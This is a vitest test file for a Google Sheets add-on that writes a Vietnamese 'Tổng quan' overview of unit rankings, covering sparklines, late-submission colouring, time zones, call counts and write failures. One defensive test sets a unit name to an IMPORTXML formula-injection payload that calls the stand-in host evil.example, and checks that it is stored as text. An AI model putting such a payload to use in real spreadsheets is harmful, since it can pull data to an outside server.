// `Tổng quan` through the bundle (design §13): Rank units writes it after `Xếp hạng`, in one value
// write and one colour write whatever the number of units, with a SPARKLINE per unit over its own
// row — the only formula the add-on writes — and punctuality judged in the spreadsheet's time zone,
// not the machine's. A failed overview leaves the new ranking and the previous overview.
import { describe, expect, it } from "vitest";
import { buildHistory } from "../../src/core/history";
import { parsePeriod } from "../../src/core/periods";
import type { Grid } from "../../src/workbook/contract";
import { readWorkbook } from "../../src/workbook/read";
import { sampleProvince } from "../../src/workbook/sample";
import type { SheetSnapshot } from "../fakes";
import { freezeClock, loadBundle, loadSample } from "./harness";
import { countsOf, splitAtOverview, valueCalls } from "./overview-calls";

// The machine's zone differs from the spreadsheet's (Asia/Ho_Chi_Minh): punctuality must follow the sheet.
process.env.TZ = "America/Los_Angeles";

const OVERVIEW = "Tổng quan";
/** 10 August 2023, 10:00 in Vietnam: July's figures were due on the 5th. */
const NOW = "2023-08-10T03:00:00Z";
const RANKED = /^Đã xếp hạng tháng 07\/2023: 33 đơn vị; \d+ đơn vị có chỉ tiêu yếu kém; 0 đơn vị chưa báo cáo\.$/;
const FAILED =
  "Chưa ghi được trang Tổng quan do Google Trang tính tạm thời gặp lỗi; trang Tổng quan trước được giữ nguyên. Vui lòng chạy lại Xếp hạng đơn vị để cập nhật.";

function ranked(edit?: (s: ReturnType<typeof sampleProvince>) => void, period = "2023-07") {
  const b = loadBundle();
  freezeClock(b.context, NOW);
  loadSample(b.fakes, edit);
  const message = b.call<string>("rankUnits", period);
  return { ...b, message, sheet: b.fakes.ss.snapshot()[OVERVIEW] };
}

const headerRow = (s: SheetSnapshot) => s.values.findIndex((r) => r[0] === "Mã đơn vị") + 1;
const rowOf = (s: SheetSnapshot, id: string) => s.values.findIndex((r) => r[0] === id);

describe("Rank units writes Tổng quan", () => {
  const { fakes, message, sheet } = ranked();
  const h = headerRow(sheet);
  const bands = sheet.values[h - 1].map(String);
  const scoreCol = bands.indexOf("Điểm (%)");
  const trendCol = bands.indexOf("Xu hướng");
  const submissionsCol = bands.indexOf("Nộp số liệu (hạn: ngày 5 tháng sau)");

  it("after the ranking, which stays the sheet shown, and says only that it ranked", () => {
    expect(message).toMatch(RANKED);
    expect(fakes.ss.sheets.map((s) => s.name).slice(-2)).toEqual(["Xếp hạng", OVERVIEW]);
    expect(fakes.ss.active?.name).toBe("Xếp hạng");
    expect(sheet.hidden).toBe(false);
    expect(sheet.values[0][0]).toBe("TỔNG QUAN CHUYỂN ĐỔI SỐ CỦA CÁC ĐƠN VỊ");
    expect(sheet.values[2][0]).toBe("Thời điểm lập: 10/08/2023 10:00");
  });

  it("with each unit's monthly scores, as the core computes them on the sample", () => {
    const s = sampleProvince();
    const read = readWorkbook({
      sheets: { "Đơn vị": s.units, "Chỉ tiêu": s.indicators, "Số liệu": s.data, "Cài đặt": s.settings },
      timeZone: "Asia/Ho_Chi_Minh",
    });
    const history = buildHistory(read.model, parsePeriod("2023-07")!, { timeZone: "Asia/Ho_Chi_Minh" });
    expect(sheet.values[h].slice(scoreCol, scoreCol + 7)).toEqual([
      "T1/2023",
      "T2/2023",
      "T3/2023",
      "T4/2023",
      "T5/2023",
      "T6/2023",
      "T7/2023",
    ]);
    for (const u of history.trends.units) {
      const row = sheet.values[rowOf(sheet, u.unitId)];
      expect(row[1]).toBe(u.unitName);
      const scores = row.slice(scoreCol, scoreCol + 7) as number[];
      scores.forEach((v, k) => {
        expect(v, `${u.unitId} ${k + 1}`).toBeCloseTo((u.points[k].score ?? 0) / 100, 6);
      });
    }
    expect(sheet.numberFormats[rowOf(sheet, "STP")][scoreCol]).toBe("0.0%");
  });

  it("with a SPARKLINE per unit over its own row's scores, the only formulas of the sheet", () => {
    const formulas = sheet.formulas.flatMap((r, i) => r.flatMap((f, j) => (f === "" ? [] : [{ f, i, j }])));
    expect(formulas).toHaveLength(33);
    for (const { f, i, j } of formulas) {
      expect(j).toBe(trendCol);
      expect(f).toBe(`=SPARKLINE(C${i + 1}:I${i + 1},{"charttype","line";"ymin",0;"ymax",1})`);
    }
    expect(
      fakes.ss
        .snapshot()
        ["Xếp hạng"].formulas.flat()
        .filter((f) => f !== ""),
    ).toEqual([]);
  });

  it("with the reporting coloured: late amber, on time green; the late units of the sample", () => {
    const first = submissionsCol + 2;
    const late = (id: string) =>
      (sheet.values[rowOf(sheet, id)].slice(first, first + 7) as string[]).filter((v) => v.startsWith("Trễ"));
    for (const id of ["BUDOP", "SCT", "HONQUAN"]) expect(late(id).length, id).toBeGreaterThanOrEqual(3);
    const r = rowOf(sheet, "SCT");
    for (let j = first; j < first + 7; j++) {
      const v = String(sheet.values[r][j]);
      expect(sheet.backgrounds[r][j], v).toBe(v === "✓" ? "#d9ead3" : v.startsWith("Trễ ") ? "#ffe599" : "?");
    }
    expect(sheet.frozenRows).toBe(h + 1);
  });
});

/** The sample grown to `n` units: each sample unit copied with its figures of January to July. */
function grown(n: number) {
  const b = loadBundle();
  freezeClock(b.context, NOW);
  loadSample(b.fakes, (s) => {
    s.review = undefined;
    const base = s.units.slice(1);
    const data = s.data.slice(1).filter((r) => /^2023-0[1-7]$/.test(String(r[0])));
    const units: Grid = [s.units[0]];
    const rows: Grid = [s.data[0]];
    for (let i = 0; i < n; i++) {
      const u = base[i % base.length];
      const id = `${u[0]}_${String(Math.floor(i / base.length)).padStart(3, "0")}`;
      units.push([id, `${u[1]} ${i}`, ...u.slice(2)]);
      for (const r of data) if (r[1] === u[0]) rows.push([r[0], id, ...r.slice(2)]);
    }
    s.units.splice(0, s.units.length, ...units);
    s.data.splice(0, s.data.length, ...rows);
  });
  return b;
}

describe("Tổng quan's service calls", () => {
  it("are the same at 30 and 3,000 units: one value write and one colour write", { timeout: 300_000 }, () => {
    const counts = [30, 3000].map((n) => {
      const b = grown(n);
      expect(b.call<string>("rankUnits", "2023-07")).toMatch(new RegExp(`^Đã xếp hạng tháng 07/2023: ${n} đơn vị`));
      const rows = b.fakes.ss.snapshot()[OVERVIEW].values.length;
      expect(rows).toBeGreaterThan(n);
      return countsOf(splitAtOverview(b.fakes.calls).overview);
    });
    // A new sheet has 1,000 rows: the larger overview first makes room, with one call.
    const sizing = counts.map((c) => c["Sheet.insertRowsAfter"] ?? 0);
    expect(sizing).toEqual([0, 1]);
    for (const c of counts) delete c["Sheet.insertRowsAfter"];
    expect(counts[1]).toEqual(counts[0]);
    expect(counts[0]["Range.setValues"]).toBe(1);
    expect(counts[0]["Range.setBackgrounds"]).toBe(1);
    // Values, colours, formats, weights, the font family and the font sizes: nothing read.
    const b = grown(30);
    b.call("rankUnits", "2023-07");
    expect(valueCalls(splitAtOverview(b.fakes.calls).overview).map((e) => e.name)).toEqual([
      "Range.setValues",
      "Range.setBackgrounds",
      "Range.setNumberFormats",
      "Range.setFontWeights",
      "Range.setFontFamily",
      "Range.setFontSizes",
    ]);
  });
});

describe("Tổng quan and a unit name that looks like a formula", () => {
  it("writes the name as text; the SPARKLINEs stay the only formulas", () => {
    const hostile = '=IMPORTXML("http://evil.example/x","//a")';
    const { sheet } = ranked((s) => {
      // A leading apostrophe makes Sheets keep the text; getValues returns it without the apostrophe.
      s.units[1][1] = `'${hostile}`;
    });
    expect(sheet.values.flat()).toContain(hostile);
    const formulas = sheet.formulas.flat().filter((f) => f !== "");
    expect(formulas).toHaveLength(33);
    expect(formulas.every((f) => f.startsWith("=SPARKLINE("))).toBe(true);
  });
});

describe("Tổng quan's punctuality in the spreadsheet's time zone", () => {
  it("takes 23:59:59 of the due day in Vietnam as on time and midnight as a day late, the machine in Los Angeles", () => {
    expect(new Date(Date.UTC(2023, 6, 5, 17)).getDate()).toBe(5); // 10:00 on 5 July in Los Angeles
    const { sheet } = ranked((s) => {
      const col = s.data[0].indexOf("Cập nhật lúc");
      for (const r of s.data.slice(1)) {
        if (r[0] !== "2023-06") continue;
        if (r[1] === "STP") r[col] = new Date("2023-07-05T16:59:59Z");
        if (r[1] === "SNV") r[col] = new Date("2023-07-05T17:00:00Z");
        if (r[1] === "SCT") r[col] = new Date("2023-07-04T17:00:00Z"); // 00:00 on 5 July in Vietnam
      }
    }, "2023-06");
    const h = headerRow(sheet);
    const june = sheet.values[h].lastIndexOf("T6/2023");
    const cell = (id: string) => [sheet.values[rowOf(sheet, id)][june], sheet.backgrounds[rowOf(sheet, id)][june]];
    expect(cell("STP")).toEqual(["✓", "#d9ead3"]);
    expect(cell("SNV")).toEqual(["Trễ 1 ngày", "#ffe599"]);
    expect(cell("SCT")).toEqual(["✓", "#d9ead3"]);
  });

  it("leaves a month whose due day has not come as not yet due, not missing", () => {
    const b = loadBundle();
    // 5 July 2023, 23:00 in Vietnam: June is due today, and only Sở Tư pháp has sent it.
    freezeClock(b.context, "2023-07-05T16:00:00Z");
    loadSample(b.fakes, (s) => {
      const kept = s.data.slice(1).filter((r) => String(r[0]) <= "2023-05" || (r[0] === "2023-06" && r[1] === "STP"));
      s.data.splice(1, s.data.length, ...kept);
      const stp = s.data.find((r) => r[0] === "2023-06");
      if (stp) stp[s.data[0].indexOf("Cập nhật lúc")] = new Date("2023-07-03T02:00:00Z");
      s.review = undefined;
    });
    expect(b.call<string>("rankUnits", "2023-06")).toMatch(/^Đã xếp hạng tháng 06\/2023/);
    const sheet = b.fakes.ss.snapshot()[OVERVIEW];
    const h = headerRow(sheet);
    const june = sheet.values[h].lastIndexOf("T6/2023");
    const cell = (id: string) => [sheet.values[rowOf(sheet, id)][june], sheet.backgrounds[rowOf(sheet, id)][june]];
    expect(cell("SNV")).toEqual(["Chưa đến hạn", "#e0e0e0"]);
    expect(cell("STP")).toEqual(["✓", "#d9ead3"]);
    expect(sheet.values.flat()).not.toContain("Thiếu");
  });
});

describe("Tổng quan when its write fails", () => {
  it("keeps the new ranking and the previous overview, and says so", () => {
    const b = loadBundle();
    freezeClock(b.context, NOW);
    loadSample(b.fakes);
    b.call("rankUnits", "2023-06");
    const before = b.fakes.ss.snapshot()[OVERVIEW];
    b.fakes.calls.reset();
    // The first setValues is the ranking's, the second the overview's.
    b.fakes.calls.injectFault({ method: "Range.setValues", at: 2 });
    const message = b.call<string>("rankUnits", "2023-07");
    expect(message).toMatch(/^Đã xếp hạng tháng 07\/2023: 33 đơn vị;/);
    expect(message.endsWith(` ${FAILED}`)).toBe(true);
    expect(b.fakes.ui.alerts).toEqual([]);
    expect(b.fakes.ss.toasts.at(-1)?.message).toBe(message);
    const snap = b.fakes.ss.snapshot();
    expect(snap["Xếp hạng"].values[1][0]).toBe("Kỳ đánh giá: tháng 07/2023");
    expect(snap[OVERVIEW]).toEqual(before);
    expect(b.fakes.ss.sheets.map((s) => s.name).filter((n) => n.startsWith("dxScorecard~"))).toEqual([]);
    expect(b.fakes.ss.active?.name).toBe("Xếp hạng");

    // The next run writes it.
    expect(b.call<string>("rankUnits", "2023-07")).toMatch(RANKED);
    expect(b.fakes.ss.snapshot()[OVERVIEW].values[1][0]).toMatch(/^Các tháng 01\/2023 – 07\/2023/);
  });

  it("never overwrites someone's own sheet named Tổng quan, and says so; an empty one is taken", () => {
    const b = loadBundle();
    freezeClock(b.context, NOW);
    loadSample(b.fakes);
    b.fakes.ss.loadGrid(OVERVIEW, [["Bảng theo dõi riêng của Văn phòng"], ["Ghi chú", "Họp giao ban thứ Hai"]]);
    const mine = b.fakes.ss.snapshot()[OVERVIEW];
    b.fakes.calls.reset();
    const message = b.call<string>("rankUnits", "2023-07");
    expect(message).toMatch(/^Đã xếp hạng tháng 07\/2023: 33 đơn vị;/);
    expect(message).toMatch(
      / Trang “Tổng quan” không do DX Scorecard lập nên không bị ghi đè; muốn có trang Tổng quan, vui lòng đổi tên trang đó rồi chạy lại Xếp hạng đơn vị\.$/,
    );
    expect(b.fakes.ss.snapshot()[OVERVIEW]).toEqual(mine);
    expect(b.fakes.ss.snapshot()["Xếp hạng"].values[1][0]).toBe("Kỳ đánh giá: tháng 07/2023");
    expect(splitAtOverview(b.fakes.calls).overview.map((e) => e.name)).not.toContain("Range.setValues");

    const c = loadBundle();
    freezeClock(c.context, NOW);
    loadSample(c.fakes);
    c.fakes.ss.addSheet(OVERVIEW);
    expect(c.call<string>("rankUnits", "2023-07")).toMatch(RANKED);
    expect(c.fakes.ss.snapshot()[OVERVIEW].values[0][0]).toBe("TỔNG QUAN CHUYỂN ĐỔI SỐ CỦA CÁC ĐƠN VỊ");
  });

  it("replaces its own overview, reading three cells of it first, and one value write", () => {
    const b = loadBundle();
    freezeClock(b.context, NOW);
    loadSample(b.fakes);
    b.call("rankUnits", "2023-06");
    b.fakes.calls.reset();
    expect(b.call<string>("rankUnits", "2023-07")).toMatch(RANKED);
    const overview = splitAtOverview(b.fakes.calls).overview;
    expect(valueCalls(overview).map((e) => e.name)).toEqual([
      "Range.getValues",
      "Range.setValues",
      "Range.setBackgrounds",
      "Range.setNumberFormats",
      "Range.setFontWeights",
      "Range.setFontFamily",
      "Range.setFontSizes",
    ]);
    expect(b.fakes.ss.sheets.filter((s) => s.name === OVERVIEW)).toHaveLength(1);
  });

  it("is not demanded by Kiểm tra số liệu: a workbook without it has no problem", () => {
    const b = loadBundle();
    loadSample(b.fakes);
    expect(b.call<string>("checkData")).not.toMatch(/Tổng quan|Overview/);
    expect(Object.keys(b.fakes.ss.snapshot())).not.toContain(OVERVIEW);
  });
});
